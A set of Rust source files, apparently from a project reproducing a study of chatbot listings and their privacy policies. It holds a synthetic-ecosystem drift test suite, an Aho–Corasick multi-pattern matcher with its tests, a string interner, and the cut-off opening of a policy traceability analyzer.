        let changed: BTreeSet<usize> = log[0].events.iter().map(|e| e.idx).collect();
        let base_fp = listing_fingerprint(&base);
        let drift_fp = listing_fingerprint(&eco);
        for idx in 0..base_fp.len() {
            if changed.contains(&idx) {
                continue; // behaviour flips may or may not show in truth fp
            }
            assert_eq!(base_fp[idx], drift_fp[idx], "bot {idx} must not change");
        }
        // Every crawl-visible event changed the truth projection.
        for e in log[0].events.iter().filter(|e| e.crawl_visible) {
            assert_ne!(
                base_fp[e.idx], drift_fp[e.idx],
                "event {:?} must be observable",
                e.kind
            );
        }
    }

    #[test]
    fn permission_creep_only_adds_bits() {
        let drift = DriftConfig {
            permission_creep: 1.0,
            policy_churn: 0.0,
            github_churn: 0.0,
            behavior_churn: 0.0,
        };
        let (eco, log) = build_ecosystem_at(&config(), &drift, 1);
        let base = build_ecosystem(&config());
        assert!(!log[0].events.is_empty());
        for (b, d) in base.truth.bots.iter().zip(eco.truth.bots.iter()) {
            if let (Some(before), Some(after)) = (b.permissions, d.permissions) {
                assert!(
                    after.contains(before),
                    "{}: creep must be a superset",
                    b.name
                );
            }
        }
    }

    #[test]
    fn drifted_world_still_mounts_installable_bots() {
        let (eco, _) = build_ecosystem_at(&config(), &DriftConfig::default(), 3);
        for bot in eco.truth.valid_bots() {
            assert!(
                eco.platform.application(bot.client_id).is_ok(),
                "{}",
                bot.name
            );
        }
        // Client ids match the frozen world's: drift never changes which
        // bots register, so warm stores stay keyed correctly.
        let base = build_ecosystem(&config());
        let ids: Vec<u64> = eco.truth.bots.iter().map(|b| b.client_id).collect();
        let base_ids: Vec<u64> = base.truth.bots.iter().map(|b| b.client_id).collect();
        assert_eq!(ids, base_ids);
    }
}
