//! # synth — the calibrated synthetic chatbot ecosystem
//!
//! The paper measured a live population (20,915 top.gg listings). Offline,
//! we *plant* that population instead: every distribution the paper reports
//! becomes a generation parameter, and the measurement pipeline must
//! recover it through the same noisy channels the authors faced (invalid
//! invite links, dead websites, profile-only GitHub links, captchas).
//!
//! Because the ecosystem carries **ground truth** ([`truth`]), this
//! reproduction can do something the paper could not: score each analyzer's
//! precision/recall against what was actually planted.
//!
//! * [`config`] — calibration constants, all traceable to §4.2 numbers;
//! * [`developers`] — the Table 1 developer→bot allocation;
//! * [`permissions`] — Figure 3 permission sampling;
//! * [`build`] — assembly: platform, listing site, websites, GitHub,
//!   redirectors, the lot (the randomness lives in the internal plan
//!   phase; mounting is draw-free);
//! * [`drift`] — longitudinal epochs: seeded per-bot mutations on top of
//!   the frozen snapshot, for incremental re-audit experiments;
//! * [`arrivals`] — seeded adversarial fleet arrival plans (flooding,
//!   preemption pokes, just-missable deadlines) for daemon stress tests;
//! * [`truth`] — per-bot ground-truth labels.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod arrivals;
pub mod build;
pub mod config;
pub mod developers;
pub mod drift;
pub mod permissions;
mod plan;
pub mod truth;

pub use arrivals::{adversarial_arrivals, Arrival, ArrivalConfig};
pub use build::{build_ecosystem, Ecosystem};
pub use config::EcosystemConfig;
pub use drift::{build_ecosystem_at, DriftConfig, DriftEvent, DriftKind, EpochDrift};
pub use truth::{BotTruth, GithubClass, GroundTruth, InviteClass, PolicyClass};
