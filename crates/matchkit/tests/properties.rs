//! Property tests for the automaton, differential against naive scans.
//!
//! matchkit must stay dependency-free (no dev-deps either), so instead of
//! proptest these use a small deterministic xorshift generator; each case
//! count is high enough to exercise overlapping/self-overlapping patterns,
//! case folding, and word boundaries at both ends of the text.

use matchkit::{AhoCorasick, AhoCorasickBuilder, MatchMode};

/// xorshift64* — deterministic, seedable, good enough for fuzz inputs.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(seed.max(1))
    }

    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    /// A string over a small alphabet (so patterns actually occur), with
    /// occasional uppercase, digits, punctuation, and multi-byte chars.
    fn text(&mut self, max_len: usize) -> String {
        const ALPHABET: &[&str] = &[
            "a", "b", "c", "A", "B", "use", "data", " ", "-", "3", "é", "日",
        ];
        let len = self.below(max_len + 1);
        let mut s = String::new();
        for _ in 0..len {
            s.push_str(ALPHABET[self.below(ALPHABET.len())]);
        }
        s
    }

    fn pattern(&mut self) -> String {
        const ALPHABET: &[&str] = &["a", "b", "c", "use", "data", "é"];
        let len = 1 + self.below(3);
        let mut s = String::new();
        for _ in 0..len {
            s.push_str(ALPHABET[self.below(ALPHABET.len())]);
        }
        s
    }
}

/// Naive reference: every (start, pattern) occurrence, ordered by end then
/// pattern index — the same order `find_iter` promises.
fn naive_matches(
    patterns: &[String],
    text: &str,
    ci: bool,
    mode: MatchMode,
) -> Vec<(usize, usize, usize)> {
    let hay = if ci {
        text.to_ascii_lowercase()
    } else {
        text.to_string()
    };
    let mut out = Vec::new();
    for end in 1..=hay.len() {
        for (idx, p) in patterns.iter().enumerate() {
            let needle = if ci {
                p.to_ascii_lowercase()
            } else {
                p.clone()
            };
            if needle.is_empty() || needle.len() > end {
                continue;
            }
            let start = end - needle.len();
            if hay.as_bytes()[start..end] != *needle.as_bytes() {
                continue;
            }
            if mode == MatchMode::WordPrefix
                && start > 0
                && hay.as_bytes()[start - 1].is_ascii_alphanumeric()
            {
                continue;
            }
            out.push((idx, start, end));
        }
    }
    out
}

#[test]
fn automaton_agrees_with_naive_scan() {
    let mut rng = Rng::new(0x2022);
    for case in 0..600 {
        let ci = case % 2 == 0;
        let mode = if case % 4 < 2 {
            MatchMode::Substring
        } else {
            MatchMode::WordPrefix
        };
        let n_patterns = 1 + rng.below(5);
        let patterns: Vec<String> = (0..n_patterns).map(|_| rng.pattern()).collect();
        let text = rng.text(40);
        let aut = AhoCorasickBuilder::new()
            .ascii_case_insensitive(ci)
            .match_mode(mode)
            .build(&patterns);
        let got: Vec<(usize, usize, usize)> = aut
            .find_iter(&text)
            .map(|m| (m.pattern, m.start, m.end))
            .collect();
        let want = naive_matches(&patterns, &text, ci, mode);
        assert_eq!(
            got, want,
            "case {case}: patterns={patterns:?} text={text:?} ci={ci} mode={mode:?}"
        );
    }
}

#[test]
fn counts_agree_with_naive_counts() {
    let mut rng = Rng::new(0xbeef);
    for _ in 0..300 {
        let patterns: Vec<String> = (0..1 + rng.below(4)).map(|_| rng.pattern()).collect();
        let text = rng.text(60);
        let aut = AhoCorasick::new(&patterns);
        let counts = aut.per_pattern_counts(&text);
        for (idx, p) in patterns.iter().enumerate() {
            let naive = naive_matches(&patterns, &text, false, MatchMode::Substring)
                .iter()
                .filter(|(i, _, _)| *i == idx)
                .count();
            assert_eq!(counts[idx], naive, "pattern {p:?} in {text:?}");
        }
    }
}

#[test]
fn contains_any_agrees_with_find_iter() {
    let mut rng = Rng::new(0xc0de);
    for _ in 0..300 {
        let patterns: Vec<String> = (0..1 + rng.below(4)).map(|_| rng.pattern()).collect();
        let text = rng.text(30);
        let aut = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(&patterns);
        assert_eq!(
            aut.contains_any(&text),
            aut.find_iter(&text).next().is_some()
        );
    }
}

#[test]
fn stream_matcher_agrees_with_batch() {
    let mut rng = Rng::new(0xfeed);
    for _ in 0..300 {
        let patterns: Vec<String> = (0..1 + rng.below(4)).map(|_| rng.pattern()).collect();
        let text = rng.text(50);
        let aut = AhoCorasick::new(&patterns);
        let mut streamed = vec![0usize; aut.pattern_count()];
        let mut matcher = aut.stream_matcher();
        for &b in text.as_bytes() {
            for hit in matcher.push(b) {
                streamed[hit.pattern as usize] += 1;
            }
        }
        drop(matcher);
        assert_eq!(streamed, aut.per_pattern_counts(&text), "text={text:?}");
    }
}

#[test]
fn word_prefix_boundaries_at_text_edges() {
    // Directed edge cases on top of the fuzzing: boundary exactly at
    // offset 0 and a match ending exactly at text end.
    let aut = AhoCorasickBuilder::new()
        .match_mode(MatchMode::WordPrefix)
        .build(["ab"]);
    assert_eq!(aut.find_iter("ab").count(), 1, "whole text is the match");
    assert_eq!(
        aut.find_iter("ab cab").count(),
        1,
        "cab has no left boundary"
    );
    assert_eq!(aut.find_iter("c ab").count(), 1, "match flush at text end");
    assert_eq!(aut.find_iter("cab").count(), 0);
    assert_eq!(aut.find_iter("").count(), 0, "empty text");
}
