//! A small string interner for hot identifier sets.
//!
//! The HTML layer resolves the same handful of tag and attribute names
//! millions of times per crawl; interning maps each distinct name to a
//! dense [`Symbol`] once, after which equality is an integer compare and
//! the name's storage is shared.

use std::collections::HashMap;

/// A handle to an interned string; `Copy`, order- and hash-stable within
/// one [`Interner`]. Symbols are dense: the first distinct string gets 0,
/// the next 1, and so on.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Symbol(u32);

impl Symbol {
    /// The dense index backing this symbol.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// Maps strings to dense [`Symbol`]s and back.
#[derive(Debug, Default)]
pub struct Interner {
    map: HashMap<Box<str>, Symbol>,
    strings: Vec<Box<str>>,
}

impl Interner {
    /// An empty interner.
    pub fn new() -> Interner {
        Interner::default()
    }

    /// Intern `s`, allocating only the first time each distinct string is
    /// seen.
    pub fn intern(&mut self, s: &str) -> Symbol {
        if let Some(&sym) = self.map.get(s) {
            return sym;
        }
        let sym = Symbol(self.strings.len() as u32);
        let boxed: Box<str> = s.into();
        self.strings.push(boxed.clone());
        self.map.insert(boxed, sym);
        sym
    }

    /// Look up a string without interning it.
    pub fn get(&self, s: &str) -> Option<Symbol> {
        self.map.get(s).copied()
    }

    /// The string behind `sym`.
    ///
    /// # Panics
    /// If `sym` came from a different interner and is out of range.
    pub fn resolve(&self, sym: Symbol) -> &str {
        &self.strings[sym.index()]
    }

    /// Number of distinct strings interned so far.
    pub fn len(&self) -> usize {
        self.strings.len()
    }

    /// Whether nothing has been interned yet.
    pub fn is_empty(&self) -> bool {
        self.strings.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip_and_dedup() {
        let mut interner = Interner::new();
        let a = interner.intern("div");
        let b = interner.intern("span");
        let a2 = interner.intern("div");
        assert_eq!(a, a2);
        assert_ne!(a, b);
        assert_eq!(interner.resolve(a), "div");
        assert_eq!(interner.resolve(b), "span");
        assert_eq!(interner.len(), 2);
    }

    #[test]
    fn symbols_are_dense() {
        let mut interner = Interner::new();
        for (i, name) in ["a", "b", "c"].iter().enumerate() {
            assert_eq!(interner.intern(name).index(), i);
        }
    }

    #[test]
    fn get_does_not_intern() {
        let mut interner = Interner::new();
        assert!(interner.get("href").is_none());
        let sym = interner.intern("href");
        assert_eq!(interner.get("href"), Some(sym));
        assert_eq!(interner.len(), 1);
    }

    #[test]
    fn empty_interner() {
        let interner = Interner::new();
        assert!(interner.is_empty());
        assert_eq!(interner.len(), 0);
    }
}
