//! Single-pass text kernels: multi-pattern matching and string interning.
//!
//! The measurement pipeline's hot loops are all "look for a fixed set of
//! little strings inside a lot of text": the keyword ontology scans every
//! privacy policy for ~40 practice keywords, the Table 3 scanner walks every
//! source file for four API patterns, and the HTML layer normalizes the same
//! tag/attribute names millions of times. Naively each needle costs one pass
//! over the haystack (plus a lowercased copy); this crate makes every such
//! check one pass total, with zero per-call allocation.
//!
//! # Automaton construction sketch
//!
//! [`AhoCorasick`] is a classic Aho–Corasick automaton built in three steps:
//!
//! 1. **Trie (goto function).** Every pattern is inserted byte-by-byte into
//!    a trie; patterns are case-folded first when the builder asks for
//!    case-insensitive matching. Each trie node is a state; the node a
//!    pattern ends on records `(pattern index, pattern length)` in its
//!    output set.
//! 2. **Failure links (NFA).** A breadth-first walk computes, for every
//!    state `s`, the longest proper suffix of `s`'s path that is also a
//!    path in the trie. Output sets are merged along failure links, so a
//!    state "knows" every pattern that ends anywhere in its suffix chain
//!    (this is what makes overlapping needles like `"has("` inside
//!    `".has("` come out right).
//! 3. **DFA conversion.** During the same walk the sparse goto function is
//!    completed into a dense `states × 256` transition table:
//!    `δ(s, b) = goto(s, b)` if the trie edge exists, else
//!    `δ(fail(s), b)`, which the BFS order has already resolved. For
//!    case-insensitive automatons the `A..=Z` columns are then aliased to
//!    the `a..=z` ones, so the scan loop is a single indexed load per input
//!    byte — no folding, no branching, no backtracking.
//!
//! Matching modes ([`MatchMode`]): plain [`Substring`](MatchMode::Substring)
//! matching, or [`WordPrefix`](MatchMode::WordPrefix) which accepts a match
//! only when it starts at the beginning of the text or right after a
//! non-alphanumeric byte — the cheap stemming-friendly boundary the policy
//! ontology uses (`"collects"` hits `collect`, `"misuse"` does not hit
//! `use`).
//!
//! Every automaton keeps per-instance [`ScanStats`] (scan passes + bytes
//! consumed), which is how the regression tests pin the one-pass property
//! and how the experiments binary reports kernel counters.
//!
//! [`Interner`] is the companion kernel for hot *identifier* sets: it maps
//! each distinct string to a dense [`Symbol`] so repeated names (HTML tag
//! and attribute names, mostly) are deduplicated once per parse instead of
//! re-allocated per node.
//!
//! This crate is deliberately dependency-free (std only) so it can sit
//! under every other crate in the workspace.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod automaton;
mod intern;

pub use automaton::{
    AhoCorasick, AhoCorasickBuilder, FindIter, Hit, Match, MatchMode, ScanStats, StreamMatcher,
};
pub use intern::{Interner, Symbol};
