//! The Aho–Corasick automaton (see the crate docs for the construction
//! sketch).

use std::sync::atomic::{AtomicU64, Ordering};

/// How a candidate occurrence is accepted.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum MatchMode {
    /// Plain substring matching: every occurrence counts.
    #[default]
    Substring,
    /// The occurrence must start at the beginning of the text or directly
    /// after a non-alphanumeric byte. This is a *left* boundary only —
    /// matches may extend into a longer word, which is what makes the
    /// policy ontology's stemmed keywords (`collect` → `collected`) work.
    WordPrefix,
}

/// One accepted occurrence yielded by [`AhoCorasick::find_iter`].
///
/// `start`/`end` are byte offsets into the scanned text; because patterns
/// are valid UTF-8, both always fall on `char` boundaries of a valid UTF-8
/// haystack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Match {
    /// Index of the pattern (in the order given to the builder).
    pub pattern: usize,
    /// Byte offset of the first byte of the occurrence.
    pub start: usize,
    /// Byte offset one past the last byte of the occurrence.
    pub end: usize,
}

/// A pattern occurrence ending at the byte just pushed into a
/// [`StreamMatcher`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Hit {
    /// Index of the pattern (in the order given to the builder).
    pub pattern: u32,
    /// Pattern length in bytes.
    pub len: u32,
}

/// Scan-pass counters an automaton accumulates over its lifetime.
///
/// `bytes_scanned` counts bytes actually consumed (an early-exiting
/// [`AhoCorasick::contains_any`] stops counting where it stopped reading),
/// so `stats_after.bytes_scanned - stats_before.bytes_scanned == text.len()`
/// is exactly the statement "that call made one full pass and nothing
/// rescanned the text".
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct ScanStats {
    /// Completed scan passes (one per iterator/stream lifetime).
    pub scans: u64,
    /// Total bytes consumed across all passes.
    pub bytes_scanned: u64,
}

impl ScanStats {
    /// Counter deltas since an earlier snapshot.
    pub fn since(self, earlier: ScanStats) -> ScanStats {
        ScanStats {
            scans: self.scans.wrapping_sub(earlier.scans),
            bytes_scanned: self.bytes_scanned.wrapping_sub(earlier.bytes_scanned),
        }
    }
}

/// Configures and builds an [`AhoCorasick`] automaton.
#[derive(Debug, Clone, Default)]
pub struct AhoCorasickBuilder {
    case_insensitive: bool,
    mode: MatchMode,
}

impl AhoCorasickBuilder {
    /// A builder with the defaults: case-sensitive, substring mode.
    pub fn new() -> AhoCorasickBuilder {
        AhoCorasickBuilder::default()
    }

    /// Fold ASCII `A..=Z` to `a..=z` in both patterns and text. Non-ASCII
    /// bytes are never folded, matching `str::to_ascii_lowercase`
    /// semantics.
    pub fn ascii_case_insensitive(mut self, yes: bool) -> AhoCorasickBuilder {
        self.case_insensitive = yes;
        self
    }

    /// Set the match-acceptance mode.
    pub fn match_mode(mut self, mode: MatchMode) -> AhoCorasickBuilder {
        self.mode = mode;
        self
    }

    /// Build the automaton. Empty patterns are skipped (they would match
    /// between every byte); their indices still count, so pattern numbering
    /// matches the input order.
    pub fn build<I, P>(self, patterns: I) -> AhoCorasick
    where
        I: IntoIterator<Item = P>,
        P: AsRef<str>,
    {
        AhoCorasick::with_config(patterns, self.case_insensitive, self.mode)
    }
}

const NO_STATE: u32 = u32::MAX;

/// A byte-level multi-pattern matcher: one pass over the text finds every
/// occurrence of every pattern. See the crate docs for the construction.
pub struct AhoCorasick {
    /// Dense DFA: `delta[state * 256 + byte]` → next state.
    delta: Vec<u32>,
    /// Per-state accepted occurrences ending here, sorted by pattern index.
    outputs: Vec<Box<[Hit]>>,
    mode: MatchMode,
    pattern_count: usize,
    scans: AtomicU64,
    bytes_scanned: AtomicU64,
}

impl AhoCorasick {
    /// A case-sensitive substring automaton over `patterns` — the common
    /// case; use [`AhoCorasickBuilder`] for the other modes.
    pub fn new<I, P>(patterns: I) -> AhoCorasick
    where
        I: IntoIterator<Item = P>,
        P: AsRef<str>,
    {
        AhoCorasickBuilder::new().build(patterns)
    }

    fn with_config<I, P>(patterns: I, case_insensitive: bool, mode: MatchMode) -> AhoCorasick
    where
        I: IntoIterator<Item = P>,
        P: AsRef<str>,
    {
        let fold = |b: u8| {
            if case_insensitive {
                b.to_ascii_lowercase()
            } else {
                b
            }
        };

        // Step 1: trie. `delta` doubles as the sparse goto function during
        // construction (NO_STATE = no edge).
        let mut delta: Vec<u32> = vec![NO_STATE; 256];
        let mut outputs: Vec<Vec<Hit>> = vec![Vec::new()];
        let mut pattern_count = 0usize;
        for (idx, pattern) in patterns.into_iter().enumerate() {
            pattern_count = idx + 1;
            let bytes = pattern.as_ref().as_bytes();
            if bytes.is_empty() {
                continue;
            }
            let mut state = 0usize;
            for &b in bytes {
                let cell = state * 256 + fold(b) as usize;
                if delta[cell] == NO_STATE {
                    let next = outputs.len() as u32;
                    delta[cell] = next;
                    delta.extend(std::iter::repeat_n(NO_STATE, 256));
                    outputs.push(Vec::new());
                }
                state = delta[cell] as usize;
            }
            outputs[state].push(Hit {
                pattern: idx as u32,
                len: bytes.len() as u32,
            });
        }

        // Steps 2 + 3: failure links and in-place DFA completion, in one
        // breadth-first walk. When state `s` is dequeued every `delta[s]`
        // row is already total, so `delta[fail * 256 + b]` is the resolved
        // fallback transition.
        let mut fail: Vec<u32> = vec![0; outputs.len()];
        let mut queue: std::collections::VecDeque<u32> = std::collections::VecDeque::new();
        for cell in delta.iter_mut().take(256) {
            match *cell {
                NO_STATE => *cell = 0,
                next => {
                    fail[next as usize] = 0;
                    queue.push_back(next);
                }
            }
        }
        while let Some(state) = queue.pop_front() {
            let s = state as usize;
            let f = fail[s] as usize;
            // Merge the failure state's outputs: everything that ends on a
            // proper suffix of this state's path also ends here.
            let inherited: Vec<Hit> = outputs[f].clone();
            outputs[s].extend(inherited);
            outputs[s].sort_by_key(|hit| hit.pattern);
            for b in 0..256 {
                let cell = s * 256 + b;
                match delta[cell] {
                    NO_STATE => delta[cell] = delta[f * 256 + b],
                    next => {
                        fail[next as usize] = delta[f * 256 + b];
                        queue.push_back(next);
                    }
                }
            }
        }

        // Case-insensitive automatons alias the uppercase columns onto the
        // lowercase ones so the scan loop needs no per-byte folding.
        if case_insensitive {
            for s in 0..outputs.len() {
                for b in b'A'..=b'Z' {
                    delta[s * 256 + b as usize] = delta[s * 256 + fold(b) as usize];
                }
            }
        }

        AhoCorasick {
            delta,
            outputs: outputs.into_iter().map(Vec::into_boxed_slice).collect(),
            mode,
            pattern_count,
            scans: AtomicU64::new(0),
            bytes_scanned: AtomicU64::new(0),
        }
    }

    /// Number of patterns the automaton was built from (empty ones
    /// included, so indices line up with the builder input).
    pub fn pattern_count(&self) -> usize {
        self.pattern_count
    }

    /// Number of DFA states (trie nodes + the root).
    pub fn state_count(&self) -> usize {
        self.outputs.len()
    }

    /// Snapshot of the lifetime scan counters.
    pub fn stats(&self) -> ScanStats {
        ScanStats {
            scans: self.scans.load(Ordering::Relaxed),
            bytes_scanned: self.bytes_scanned.load(Ordering::Relaxed),
        }
    }

    fn record(&self, bytes: u64) {
        self.scans.fetch_add(1, Ordering::Relaxed);
        self.bytes_scanned.fetch_add(bytes, Ordering::Relaxed);
    }

    /// Iterate over every accepted occurrence in `text`, ordered by end
    /// position (ties by pattern index). One pass, zero allocation.
    pub fn find_iter<'a, 't>(&'a self, text: &'t str) -> FindIter<'a, 't> {
        FindIter {
            automaton: self,
            text: text.as_bytes(),
            state: 0,
            pos: 0,
            pending: &[],
            pending_end: 0,
        }
    }

    /// Does any pattern occur in `text`? Stops at the first acceptance.
    pub fn contains_any(&self, text: &str) -> bool {
        self.find_iter(text).next().is_some()
    }

    /// Occurrence count per pattern, in builder order. Overlapping
    /// occurrences of one pattern all count (for patterns with no
    /// self-overlap — no proper border — this equals
    /// `text.matches(pattern).count()`).
    pub fn per_pattern_counts(&self, text: &str) -> Vec<usize> {
        let mut counts = vec![0usize; self.pattern_count];
        for m in self.find_iter(text) {
            counts[m.pattern] += 1;
        }
        counts
    }

    /// Which patterns occur at least once, in builder order.
    pub fn matched_patterns(&self, text: &str) -> Vec<bool> {
        let mut seen = vec![false; self.pattern_count];
        for m in self.find_iter(text) {
            seen[m.pattern] = true;
        }
        seen
    }

    /// A push-based matcher for callers that produce the text a byte at a
    /// time (the fused code scanner). Only meaningful in
    /// [`MatchMode::Substring`] — word-prefix acceptance needs to look at
    /// the byte before a match start, which a byte stream cannot replay.
    ///
    /// # Panics
    /// If the automaton was built with [`MatchMode::WordPrefix`].
    pub fn stream_matcher(&self) -> StreamMatcher<'_> {
        assert!(
            self.mode == MatchMode::Substring,
            "StreamMatcher requires MatchMode::Substring"
        );
        StreamMatcher {
            automaton: self,
            state: 0,
            consumed: 0,
        }
    }
}

impl std::fmt::Debug for AhoCorasick {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AhoCorasick")
            .field("patterns", &self.pattern_count)
            .field("states", &self.state_count())
            .field("mode", &self.mode)
            .finish()
    }
}

/// Iterator over accepted occurrences; see [`AhoCorasick::find_iter`].
///
/// Records the pass (bytes actually consumed) into the automaton's
/// [`ScanStats`] when dropped.
pub struct FindIter<'a, 't> {
    automaton: &'a AhoCorasick,
    text: &'t [u8],
    state: u32,
    pos: usize,
    /// Occurrences ending at `pending_end` not yet yielded.
    pending: &'a [Hit],
    pending_end: usize,
}

impl FindIter<'_, '_> {
    fn accept(&self, hit: Hit, end: usize) -> Option<Match> {
        let start = end - hit.len as usize;
        if self.automaton.mode == MatchMode::WordPrefix
            && start > 0
            && self.text[start - 1].is_ascii_alphanumeric()
        {
            return None;
        }
        Some(Match {
            pattern: hit.pattern as usize,
            start,
            end,
        })
    }
}

impl Iterator for FindIter<'_, '_> {
    type Item = Match;

    fn next(&mut self) -> Option<Match> {
        loop {
            while let Some((hit, rest)) = self.pending.split_first() {
                self.pending = rest;
                if let Some(m) = self.accept(*hit, self.pending_end) {
                    return Some(m);
                }
            }
            if self.pos >= self.text.len() {
                return None;
            }
            let b = self.text[self.pos] as usize;
            self.state = self.automaton.delta[self.state as usize * 256 + b];
            self.pos += 1;
            let out = &self.automaton.outputs[self.state as usize];
            if !out.is_empty() {
                self.pending = out;
                self.pending_end = self.pos;
            }
        }
    }
}

impl Drop for FindIter<'_, '_> {
    fn drop(&mut self) {
        self.automaton.record(self.pos as u64);
    }
}

/// Push-based matcher over a caller-produced byte stream; see
/// [`AhoCorasick::stream_matcher`]. Records its pass into the automaton's
/// [`ScanStats`] when dropped.
pub struct StreamMatcher<'a> {
    automaton: &'a AhoCorasick,
    state: u32,
    consumed: u64,
}

impl<'a> StreamMatcher<'a> {
    /// Advance by one byte; returns the occurrences ending on it (sorted by
    /// pattern index).
    pub fn push(&mut self, byte: u8) -> &'a [Hit] {
        self.state = self.automaton.delta[self.state as usize * 256 + byte as usize];
        self.consumed += 1;
        &self.automaton.outputs[self.state as usize]
    }
}

impl Drop for StreamMatcher<'_> {
    fn drop(&mut self) {
        self.automaton.record(self.consumed);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn counts(aut: &AhoCorasick, text: &str) -> Vec<usize> {
        aut.per_pattern_counts(text)
    }

    #[test]
    fn empty_pattern_set_matches_nothing() {
        let aut = AhoCorasick::new(Vec::<&str>::new());
        assert_eq!(aut.pattern_count(), 0);
        assert_eq!(aut.state_count(), 1);
        assert!(!aut.contains_any("anything at all"));
        assert_eq!(aut.find_iter("abc").count(), 0);
    }

    #[test]
    fn empty_patterns_are_skipped_but_keep_their_index() {
        let aut = AhoCorasick::new(["", "b"]);
        assert_eq!(aut.pattern_count(), 2);
        assert_eq!(counts(&aut, "abba"), vec![0, 2]);
    }

    #[test]
    fn single_pattern_all_occurrences() {
        let aut = AhoCorasick::new(["ab"]);
        let ms: Vec<Match> = aut.find_iter("abxabab").collect();
        assert_eq!(
            ms,
            vec![
                Match {
                    pattern: 0,
                    start: 0,
                    end: 2
                },
                Match {
                    pattern: 0,
                    start: 3,
                    end: 5
                },
                Match {
                    pattern: 0,
                    start: 5,
                    end: 7
                },
            ]
        );
    }

    #[test]
    fn overlapping_needles_all_reported() {
        // "he" ends inside "she"; "hers" extends past it.
        let aut = AhoCorasick::new(["he", "she", "his", "hers"]);
        let ms: Vec<(usize, usize)> = aut
            .find_iter("ushers")
            .map(|m| (m.pattern, m.start))
            .collect();
        // Both "he" and "she" end at offset 4; ties are ordered by pattern
        // index.
        assert_eq!(ms, vec![(0, 2), (1, 1), (3, 2)]);
    }

    #[test]
    fn self_overlapping_pattern_counts_every_occurrence() {
        let aut = AhoCorasick::new(["aa"]);
        // "aaaa" holds three (overlapping) occurrences; str::matches sees 2.
        assert_eq!(counts(&aut, "aaaa"), vec![3]);
    }

    #[test]
    fn substring_needle_of_another_pattern() {
        let aut = AhoCorasick::new([".hasPermission(", ".has("]);
        assert_eq!(counts(&aut, "m.hasPermission(x); p.has(y)"), vec![1, 1]);
    }

    #[test]
    fn case_folding() {
        let aut = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(["collect"]);
        assert!(aut.contains_any("WE COLLECT EVERYTHING"));
        assert!(aut.contains_any("Collecting"));
        assert!(!aut.contains_any("COLLET"));
        // Non-ASCII bytes are not folded.
        let aut = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(["é"]);
        assert!(aut.contains_any("café"));
        assert!(!aut.contains_any("cafÉ"), "non-ASCII is never case-folded");
    }

    #[test]
    fn word_prefix_boundary_at_text_start_and_end() {
        let aut = AhoCorasickBuilder::new()
            .match_mode(MatchMode::WordPrefix)
            .build(["use"]);
        assert!(aut.contains_any("use"), "match at text start");
        assert!(
            aut.contains_any("reuse misuse; use"),
            "boundary after space"
        );
        assert!(aut.contains_any("we use"), "plain interior");
        assert!(aut.contains_any("data-use"), "punctuation boundary");
        assert!(!aut.contains_any("misuse"), "no left boundary");
        assert!(
            !aut.contains_any("reuse"),
            "no left boundary at end of text"
        );
        assert!(aut.contains_any("used"), "right side is open (stemming)");
    }

    #[test]
    fn word_prefix_with_case_folding() {
        let aut = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_mode(MatchMode::WordPrefix)
            .build(["use", "third party"]);
        assert!(aut.contains_any("USED for moderation"));
        assert!(!aut.contains_any("MISUSE"));
        assert!(aut.contains_any("a Third Party processor"));
    }

    #[test]
    fn matched_patterns_and_counts_agree() {
        let aut = AhoCorasick::new(["a", "b", "zz"]);
        let text = "abba";
        let counts = aut.per_pattern_counts(text);
        let matched = aut.matched_patterns(text);
        assert_eq!(counts, vec![2, 2, 0]);
        assert_eq!(matched, vec![true, true, false]);
    }

    #[test]
    fn stream_matcher_equals_batch_on_substring_mode() {
        let aut = AhoCorasick::new(["abc", "bc", "c", "cab"]);
        let text = "abcabcab";
        let mut streamed = vec![0usize; aut.pattern_count()];
        let mut m = aut.stream_matcher();
        for &b in text.as_bytes() {
            for hit in m.push(b) {
                streamed[hit.pattern as usize] += 1;
            }
        }
        drop(m);
        assert_eq!(streamed, aut.per_pattern_counts(text));
    }

    #[test]
    #[should_panic(expected = "Substring")]
    fn stream_matcher_rejects_word_prefix_mode() {
        let aut = AhoCorasickBuilder::new()
            .match_mode(MatchMode::WordPrefix)
            .build(["x"]);
        let _ = aut.stream_matcher();
    }

    #[test]
    fn utf8_matches_fall_on_char_boundaries() {
        let aut = AhoCorasick::new(["né", "e"]);
        let text = "née";
        for m in aut.find_iter(text) {
            assert!(text.is_char_boundary(m.start) && text.is_char_boundary(m.end));
        }
    }

    #[test]
    fn scan_stats_count_one_pass() {
        let aut = AhoCorasick::new(["needle"]);
        let before = aut.stats();
        let text = "a haystack without the word";
        assert_eq!(aut.find_iter(text).count(), 0);
        let delta = aut.stats().since(before);
        assert_eq!(delta.scans, 1);
        assert_eq!(delta.bytes_scanned, text.len() as u64);
    }

    #[test]
    fn contains_any_stops_early() {
        let aut = AhoCorasick::new(["ab"]);
        let before = aut.stats();
        assert!(aut.contains_any("abxxxxxxxxxxxxxxxx"));
        let delta = aut.stats().since(before);
        assert_eq!(delta.bytes_scanned, 2, "stopped right after the match");
    }

    #[test]
    fn duplicate_patterns_both_reported() {
        let aut = AhoCorasick::new(["dup", "dup"]);
        assert_eq!(counts(&aut, "a dup"), vec![1, 1]);
    }
}
