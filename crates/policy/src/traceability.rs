//! The traceability analyzer.
//!
//! §3: "When a privacy policy explains how data is collected, used, retained
//! and disclosed we say that the policy is complete. When any of the
